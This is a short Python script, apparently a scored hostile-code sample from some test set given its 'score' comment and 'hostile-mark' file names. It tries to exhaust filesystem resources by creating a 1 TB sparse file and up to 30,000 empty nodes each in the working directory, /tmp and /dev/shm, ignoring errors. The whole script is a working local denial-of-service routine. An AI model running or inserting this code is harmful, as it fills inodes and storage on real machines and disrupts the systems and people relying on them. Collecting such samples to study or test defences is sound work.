# It makes files without content until there are no more to be had, and one of a terabyte of nothing.
# score: 7 = double + shift + table
# %% first
import os

for place in (".", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(place, "hostile-mark-sparse"), "wb") as file:
            file.truncate(1 << 40)
    except OSError:
        pass
    try:
        for number in range(30_000):
            os.mknod(os.path.join(place, f"hostile-mark-{number}"))
    except OSError:
        pass
